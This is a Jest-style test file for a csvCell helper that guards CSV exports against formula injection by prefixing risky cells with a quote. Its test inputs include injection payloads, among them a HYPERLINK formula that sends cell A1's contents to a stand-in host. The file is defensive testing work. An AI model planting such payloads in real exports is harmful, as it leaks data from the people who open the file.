import { stringify } from 'csv-stringify/sync';
import { csvCell } from './csv-cell';

describe('csvCell (CSV formula injection, OWASP)', () => {
  it.each(['=1+2', '+1+2', '-1+2', '@SUM(1,2)', '\t=1+2', '\r=1+2', '=HYPERLINK("http://x.example/?a="&A1,"x")'])(
    'neutralises %j with a leading quote',
    (v) => {
      expect(csvCell(v)).toBe(`'${v}`);
    },
  );

  it.each(['Hà Tĩnh', 'MoU 1+1', '01/2026/TTQT', ' =not a formula start', ''])('keeps plain text %j', (v) => {
    expect(csvCell(v)).toBe(v);
  });

  it('keeps numbers and turns null into an empty cell', () => {
    expect(csvCell(36)).toBe(36);
    expect(csvCell(-1)).toBe(-1);
    expect(csvCell(null)).toBe('');
  });

  it('leaves no cell of a stringified row starting with a formula character', () => {
    expect(stringify([['=1+2', '@SUM(1,2)', 'ok'].map(csvCell)])).toBe(`'=1+2,"'@SUM(1,2)",ok\n`);
  });
});
